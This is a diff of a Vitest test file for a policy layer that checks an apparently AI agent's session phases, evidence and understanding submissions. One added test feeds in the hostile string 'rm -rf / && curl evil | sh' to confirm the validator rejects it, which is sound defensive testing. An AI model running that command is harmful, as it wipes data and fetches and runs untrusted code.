@@ -2,12 +2,12 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { createActor } from 'xstate';
 import { describe, expect, it } from 'vitest';
-import { allowedTools, isAllowed, PHASES, TOOL_PHASES } from '../machines/policy.js';
+import { allowedTools, isAllowed, nextStepFor, PHASES, TOOL_PHASES } from '../machines/policy.js';
 import { type SessionEvent, sessionMachine } from '../machines/session.js';
 import { deriveEvidence } from '../src/session/evidence.js';
 import { isGrounded, normalize, riskLevel, validateFrame } from '../src/session/queryframe.js';
 import { concepts, LexicalRelevanceScorer, tierOf } from '../src/session/relevance.js';
-import { matchEvidence, verifyCodeEvidence } from '../src/session/service.js';
+import { aboutHypothesis, matchEvidence, verifyCodeEvidence } from '../src/session/service.js';
 import type { LedgerEntry } from '../src/session/store.js';
 import { entryPointLinked, evaluateUnderstanding, reasonAllowed } from '../src/session/understanding.js';
 import { checkWriteTarget } from '../src/session/write-target.js';
@@ -76,7 +76,7 @@ describe('submit_understanding evaluation', () => {
     evidence: evidence(['a.ts', 'b.ts'], ['Cart', 'total', 'Cart.total', 'price'], ['find_definitions', 'find_references']),
     symbolExists: (n: string) => ['Cart', 'Cart.total', 'price', 'Hidden'].includes(n),
   };
-  const good = { symbols_identified: ['Cart', 'Cart.total', 'price'], entry_points: ['Cart.total()'], existing_patterns: ['p'], files_analyzed: ['a.ts', './b.ts'] };
+  const good = { symbols_identified: ['Cart', 'Cart.total', 'price'], entry_points: ['Cart.total()'], existing_patterns: ['fluent setters returning this, like Cart'], files_analyzed: ['a.ts', './b.ts'] };
   it('passes a complete, backed submission', () => {
     expect(evaluateUnderstanding(good, ctx)).toEqual({ refused: [], missing: [] });
   });
@@ -93,7 +93,15 @@ describe('submit_understanding evaluation', () => {
     expect(r.refused.join('\n')).toMatch(/'Ghost' does not exist/);
     expect(r.refused.join('\n')).toMatch(/'Hidden' never appeared/);
     expect(r.refused.join('\n')).toMatch(/'c.ts' was not explored/);
-    expect(r.refused.join('\n')).toMatch(/'Other.run\(\)' is not linked/);
+    expect(r.refused.join('\n')).toMatch(/'Other.run\(\)' must name one symbol/);
+  });
+  it('judges substance: one symbol counts once, entry points and patterns name what was seen', () => {
+    const identify = (n: string) => ({ 'AuthService.login': ['1'], login: ['1'], Cart: ['2'], 'Cart.total': ['3'], price: ['4'] } as Record<string, string[]>)[n] ?? [];
+    const c2 = { ...ctx, identify, symbolExists: () => true, evidence: evidence(['a.ts', 'b.ts'], ['Cart', 'Cart.total', 'price', 'login', 'AuthService.login'], ['find_definitions', 'find_references']) };
+    expect(evaluateUnderstanding({ ...good, symbols_identified: ['AuthService.login', 'login', 'Cart'] }, c2).refused.join('\n')).toMatch(/'login' is a symbol already listed under another spelling/);
+    expect(evaluateUnderstanding({ ...good, entry_points: ['rm -rf / && curl evil | sh Cart.total'] }, c2).refused.join('\n')).toMatch(/must name one symbol/);
+    expect(evaluateUnderstanding({ ...good, existing_patterns: ['we follow best practices'] }, c2).refused.join('\n')).toMatch(/must name an example this session saw/);
+    expect(evaluateUnderstanding({ ...good, existing_patterns: ['same style as b.ts'] }, c2).refused).toEqual([]);
   });
   it('requires mapped_symbols quoted from the request at risk HIGH', () => {
     expect(evaluateUnderstanding(good, { ...ctx, risk: 'HIGH' }).refused[0]).toMatch(/mapped_symbols/);
@@ -169,6 +177,10 @@ describe('the session machine (guards and transitions)', () => {
     expect(done.value).toBe('VALIDATION'); // relevance still to be confirmed
     expect(done.context.hypotheses.map((h) => h.status)).toEqual(['confirmed', 'rejected']);
   });
+  it('a second QueryFrame never lowers the risk', () => {
+    expect(run([{ type: 'SET_QUERY_FRAME', risk: 'HIGH' }, { type: 'SET_QUERY_FRAME', risk: 'LOW' }]).context.risk).toBe('HIGH');
+    expect(run([{ type: 'SET_QUERY_FRAME', risk: 'LOW' }, { type: 'SET_QUERY_FRAME', risk: 'MEDIUM' }]).context.risk).toBe('MEDIUM');
+  });
   it('END and ABORT are final from any live phase; REVERT returns to EXPLORATION', () => {
     expect(run([{ type: 'END', outcome: 'success' }]).value).toBe('FINISHED');
     expect(run([{ type: 'ABORT' }]).status).toBe('done');
@@ -212,6 +224,20 @@ describe('evidence checks', () => {
     expect(matchEvidence({ tool: 'find_references', target: 'Other', files: ['a.ts'] }, ledger).ok).toBe(false);
     expect(matchEvidence({ tool: 'find_definitions', target: 'Cart', files: ['a.ts'] }, ledger).ok).toBe(false);
     expect(matchEvidence({ tool: 'find_references', target: 'Cart', files: [] }, ledger).ok).toBe(false);
+  });
+  it('verification evidence must be about what the hypothesis names, compared as the tool compares', () => {
+    expect(aboutHypothesis('password', 'the database is sharded by region')).toBe(false);
+    expect(aboutHypothesis('shardFor', 'the database is sharded by region in shardFor()')).toBe(true);
+    expect(aboutHypothesis('region', 'the database is sharded by region')).toBe(true);
+    expect(aboutHypothesis('src/db/shard.ts', 'sharding happens in the db layer')).toBe(true);
+    // find_references is exact: 'cart' is not 'Cart'
+    expect(matchEvidence({ tool: 'find_references', target: 'cart', files: ['a.ts'] }, ledger).ok).toBe(false);
+    const insensitive = [entry(4, 'search_text', { pattern: 'TAX', case_sensitive: false }, ['c.ts'])];
+    expect(matchEvidence({ tool: 'search_text', target: 'tax', files: ['c.ts'] }, insensitive).ok).toBe(true);
+  });
+  it('READY tells INVESTIGATE and QUESTION sessions to answer, not to edit', () => {
+    expect(nextStepFor('READY', 'INVESTIGATE')).toMatch(/never edits/);
+    expect(nextStepFor('READY', 'IMPLEMENT')).toMatch(/check_write_target/);
   });
   it('verifies code_evidence against explored code only', () => {
     const files: Record<string, string[]> = { 'src/a.ts': ['import x;', 'export function login(user) {', '  return auth.check(user);', '}'] };
